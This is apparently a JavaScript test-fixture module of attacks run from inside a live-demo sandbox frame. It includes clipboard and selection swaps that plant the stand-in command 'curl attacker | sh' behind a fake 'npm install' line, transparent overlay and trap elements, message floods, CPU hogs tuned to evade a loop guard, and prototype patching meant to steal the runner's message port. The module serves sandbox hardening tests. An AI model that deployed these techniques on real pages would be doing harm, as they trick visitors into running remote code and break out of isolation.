/**
 * Shared code that attacks the live-demo sandbox from inside its frame, in plain JavaScript so
 * that the Playwright specs (tests/e2e/sandbox-reach.spec.ts) and the Firefox tests
 * (tests/firefox) run the same attacks. Each renders a line the tests wait for.
 */

/** A transparent element on the body, below the demo: the runner reports it as a popup. */
export const COVER_WITH_BODY_ELEMENT = `import React, { useEffect } from 'react';
export default function Cover() {
  useEffect(() => {
    const cover = document.createElement('div');
    cover.style.cssText = 'position:absolute;left:0;top:0;width:100%;height:1020px';
    document.body.appendChild(cover);
  }, []);
  return <p>cover ready</p>;
}
`;

/** The demo's own content drawn below its flow: a tall block taken back by its margin. */
export const COVER_WITH_MARGIN = `export default function Cover() {
  return <div style={{ height: 1020, marginBottom: -900 }}><p>cover ready</p></div>;
}
`;

/** A button whose click tries every way to put other code on the visitor's clipboard, and says what worked. */
export const CLIPBOARD_SWAP = `import React, { useState } from 'react';
const ATTACK = 'curl attacker | sh';
export default function Swap() {
  const [said, setSaid] = useState('not yet');
  const swap = () => {
    let handled = false;
    document.addEventListener('copy', (event) => {
      handled = true;
      event.clipboardData?.setData('text/plain', ATTACK);
      event.preventDefault();
    });
    const area = document.createElement('textarea');
    area.value = ATTACK;
    document.body.appendChild(area);
    area.select();
    const copied = document.execCommand('copy');
    const cut = document.execCommand('Cut');
    const api = typeof (navigator as { clipboard?: unknown }).clipboard;
    setSaid(['copy: ' + copied, 'cut: ' + cut, 'handler: ' + handled, 'api: ' + api].join(', '));
  };
  return (
    <div>
      <button onClick={swap}>swap</button>
      <p>{said}</p>
    </div>
  );
}
`;

/** What CLIPBOARD_SWAP says when nothing reached the clipboard. */
export const CLIPBOARD_REFUSED = 'copy: false, cut: false, handler: false, api: undefined';

/** Three messages to the page's window, each a Set of 100,000 strings: cheap to send, slow to read. */
export const MESSAGE_FLOOD = `const heavy = new Set<string>();
for (let i = 0; i < 100000; i += 1) heavy.add('s' + i);
for (let i = 0; i < 3; i += 1) top!.postMessage(heavy, '*');
export default function Flood() {
  return <p>flooding</p>;
}
`;

/** Code that runs 950 ms, yields 10 ms, and runs again: never one task over the loop guard's budget. */
export const BUSY_WITH_YIELDS = `import React, { useEffect } from 'react';
function hog() {
  const start = performance.now();
  while (performance.now() - start < 950) {}
  setTimeout(hog, 10);
}
export default function Hog() {
  useEffect(() => hog(), []);
  return <p>hogging</p>;
}
`;

/**
 * In the page: counts its reads of messages that came from another window (a frame's post to
 * `top`) in `window.framePostsRead`. Passed to the browser as an init script.
 */
export function countFramePostsRead() {
  const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data').get;
  Object.defineProperty(MessageEvent.prototype, 'data', {
    configurable: true,
    get() {
      if (this.source && this.source !== window) window.framePostsRead = (window.framePostsRead ?? 0) + 1;
      return Reflect.apply(data, this, []);
    },
  });
}

/**
 * Code that replaces what the runner could use to reach its port (Reflect.apply, a port's
 * postMessage, a message's data) and, on a click, posts "moved" through every port it caught:
 * had it the runner's, the page would tear the frame down. A button says how many it caught
 * (React's scheduler has a channel of its own).
 */
export const PORT_THIEF = `import React, { useState } from 'react';
const caught = new Set<MessagePort>();
const realApply = Reflect.apply;
Reflect.apply = function (target: Function, self: unknown, args: ArrayLike<unknown>) {
  if (self instanceof MessagePort) caught.add(self);
  if (self instanceof MessageEvent && self.target instanceof MessagePort) caught.add(self.target);
  return realApply(target, self, args);
} as typeof Reflect.apply;
const realPost = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (this: MessagePort, ...args: unknown[]) {
  caught.add(this);
  return (realPost as (...given: unknown[]) => void).apply(this, args);
} as typeof MessagePort.prototype.postMessage;
const realData = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data')!.get!;
Object.defineProperty(MessageEvent.prototype, 'data', {
  get(this: MessageEvent) {
    if (this.target instanceof MessagePort) caught.add(this.target);
    return realData.call(this);
  },
});
export default function Thief() {
  const [said, setSaid] = useState('not yet');
  const post = () => {
    for (const port of caught) realPost.call(port, { channel: 'rcp-sandbox', type: 'moved' });
    setSaid('posted through ' + caught.size);
  };
  return <button onClick={post}>{said}</button>;
}
`;

/** Replaces the globals the runner calls while it reads a message, and looks for the port in `window.event`. */
export const EVENT_THIEF = `import React, { useState } from 'react';
const caught = new Set<MessagePort>();
const look = () => {
  const event = (window as { event?: Event }).event;
  if (event && event.currentTarget instanceof MessagePort) caught.add(event.currentTarget);
};
const isArray = Array.isArray;
Array.isArray = ((value: unknown) => (look(), isArray(value))) as typeof Array.isArray;
const isSafeInteger = Number.isSafeInteger;
Number.isSafeInteger = ((value: unknown) => (look(), isSafeInteger(value))) as typeof Number.isSafeInteger;
const entries = Object.entries;
Object.entries = ((value: object) => (look(), entries(value))) as typeof Object.entries;
export default function Thief() {
  const [said, setSaid] = useState('not yet');
  const post = () => {
    for (const port of caught) port.postMessage({ channel: 'rcp-sandbox', type: 'moved' });
    setSaid('posted through ' + caught.size);
  };
  return <button onClick={post}>{said}</button>;
}
`;

/** A 40 px demo whose nearly transparent field reaches 400 px below it: a popup area as tall as allowed. */
export const TALL_TRAP = `import React, { useState } from 'react';
export default function Trap() {
  const [typed, setTyped] = useState('');
  return (
    <div style={{ height: 40 }}>
      <span>trap: {typed}</span>
      <textarea aria-label="trap" onChange={(event) => setTyped(event.target.value)}
        style={{ position: 'absolute', top: 40, left: 0, width: '100%', height: 400, opacity: 0.01, border: 0 }} />
    </div>
  );
}
`;

/** Each task ticks as it starts, then sorts 300,000 numbers natively: nothing of the code's own after that. */
export const BUSY_NATIVE = `import React, { useEffect } from 'react';
const work = () => Array.from({ length: 300000 }, Math.random).sort();
export default function Sorter() {
  useEffect(() => {
    const burn = () => {
      work();
      setTimeout(burn, 0);
    };
    burn();
  }, []);
  return <p>sorting</p>;
}
`;

/** On Ctrl+C the code moves the selection to hidden text, for the browser's own copy to take. */
export const SELECTION_SWAP = `import React, { useEffect } from 'react';
export default function Swap() {
  useEffect(() => {
    const swap = (event: KeyboardEvent) => {
      if (!(event.ctrlKey || event.metaKey)) return;
      const range = document.createRange();
      range.selectNodeContents(document.getElementById('payload')!);
      getSelection()!.removeAllRanges();
      getSelection()!.addRange(range);
    };
    window.addEventListener('keydown', swap, true);
    return () => window.removeEventListener('keydown', swap, true);
  }, []);
  return (
    <div>
      <p>npm install rc-pagination</p>
      <span id="payload" style={{ position: 'absolute', left: -9999 }}>curl attacker | sh</span>
    </div>
  );
}
`;
